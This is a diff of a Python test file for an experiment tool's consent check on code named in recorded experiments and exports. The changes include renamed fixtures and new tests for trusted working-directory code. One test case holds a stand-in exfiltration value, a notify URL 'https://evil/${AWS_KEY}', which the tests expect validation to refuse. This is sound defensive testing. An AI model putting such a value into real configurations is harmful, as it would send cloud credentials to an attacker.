@@ -1,4 +1,4 @@
-"""Consent to code that a file, a folder or an export names, before it is imported."""
+"""Consent to code that a recorded experiment or an export names, before it is imported."""
 
 import io
 import sys
@@ -25,12 +25,16 @@ def nothing_remembered(tmp_path_factory, monkeypatch):
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path_factory.mktemp("state")))
 
 
+def recorded(folder, spec):
+    return text_of(folder / "experiment.json", {"format": 1, "spec": spec})
+
+
 @pytest.fixture
 def theirs(tmp_path_factory):
-    """A spec elsewhere that names a module beside it."""
+    """A recorded experiment elsewhere that names a module in its folder."""
     folder = tmp_path_factory.mktemp("elsewhere")
     (folder / "their_code.py").write_text(CODE)
-    yield text_of(folder / "theirs.yaml", {**SPEC, "trainable": "their_code:train"})
+    yield recorded(folder, {**SPEC, "trainable": "their_code:train"})
     for name in ("their_code", "own_code", "mine"):
         sys.modules.pop(name, None)
 
@@ -77,7 +81,7 @@ def test_validate_without_terminal_refuses_code_and_names_the_option(theirs):
     error = call("validate", theirs).exception
     assert isinstance(error, UsageError)
     assert str(error).splitlines() == [
-        f"{theirs} names code that has not run here before:",
+        f"{theirs.parent} names code that has not run here before:",
         f"  their_code:train ({theirs.parent / 'their_code.py'})",
         "give --trust to run it",
     ]
@@ -106,10 +110,12 @@ def test_validate_at_a_terminal_imports_code_after_a_yes(theirs, answered):
 def test_validate_asks_nothing_about_code_from_the_command_line(theirs, monkeypatch):
     folder = theirs.parent
     monkeypatch.syspath_prepend(str(folder))
+    text_of(folder / "own.json", {**SPEC, "trainable": "their_code:train"})
+    assert validate(folder / "own.json")
     (folder / "mine.py").write_text(
         "import json, pathlib\n"
         "def experiment():\n"
-        "    return json.loads((pathlib.Path(__file__).parent / 'theirs.yaml').read_text())\n"
+        "    return json.loads((pathlib.Path(__file__).parent / 'own.json').read_text())\n"
     )
     assert validate("mine:experiment")
     assert validate(folder / "mine.py")
@@ -118,15 +124,22 @@ def test_validate_asks_nothing_about_code_from_the_command_line(theirs, monkeypa
     assert call("validate", *command).exception is None
 
 
-def test_code_that_the_user_has_run_is_admitted_again(theirs, here):
-    (here / "own_code.py").write_text(CODE)
-    results = experiment(here, trainable="own_code:train")
+def test_admit_experiment_asks_nothing_about_code_that_the_user_has_run(here):
+    results = experiment(here, trainable="ray.x:train")
     with pytest.raises(UsageError, match="--trust"):
         admit_experiment(results, trust=False)
-    NamedCode("trainable", "own_code:train").remember()
+    NamedCode("trainable", "ray.x:train").remember()
     admit_experiment(results, trust=False)
-    text_of("own.yaml", {**SPEC, "trainable": "own_code:train"})
-    assert validate("own.yaml")
+
+
+def test_admit_experiment_asks_only_about_code_outside_the_working_directory(here, monkeypatch):
+    (here / "own_code.py").write_text(CODE)
+    results = experiment(here, trainable="own_code:train")
+    admit_experiment(results, trust=False)
+    (here / "own_code.py").rename(results.folder / "own_code.py")
+    monkeypatch.syspath_prepend(str(results.folder))
+    with pytest.raises(UsageError, match="--trust"):
+        admit_experiment(results, trust=False)
 
 
 SEARCHER = {"search": {"strategy": "ray.x", "space": {"lr": "uniform(0, 1)"}}}
@@ -184,9 +197,9 @@ def test_admit_finds_a_network_that_only_the_journal_names(here, spelt):
         ({"notify": ["https://evil/${AWS_KEY}"]}, "notify https://evil/${AWS_KEY}"),
     ],
 )
-def test_validate_refuses_code_of_a_file_and_not_of_its_overrides(theirs, fields, named):
+def test_validate_refuses_recorded_code_and_not_overrides(theirs, fields, named):
     (theirs.parent / "their_code.py").write_text(NET)
-    text_of(theirs, {**GOOD, **fields})
+    recorded(theirs.parent, {**GOOD, **fields})
     with pytest.raises(UsageError) as refused:
         validate(theirs)
     assert f"  {named}" in str(refused.value)
@@ -194,12 +207,13 @@ def test_validate_refuses_code_of_a_file_and_not_of_its_overrides(theirs, fields
 
 
 @pytest.mark.parametrize("command", ["python mine.py {lr}", "bash mine.py"])
-def test_validate_refuses_a_command_of_a_file(here, command):
+def test_validate_refuses_a_recorded_command(here, command):
     (here / "mine.py").touch()
-    text_of("theirs.yaml", {**SPEC, "trainable": {"command": command}})
+    (here / "theirs").mkdir()
+    theirs = recorded(here / "theirs", {**SPEC, "trainable": {"command": command}})
     with pytest.raises(UsageError, match="  command "):
-        validate("theirs.yaml")
-    assert call("validate", "theirs.yaml", "--trust").exception is None
+        validate(theirs)
+    assert call("validate", theirs, "--trust").exception is None
 
 
 def test_validate_rejects_a_network_of_the_standard_library_unimported(here):
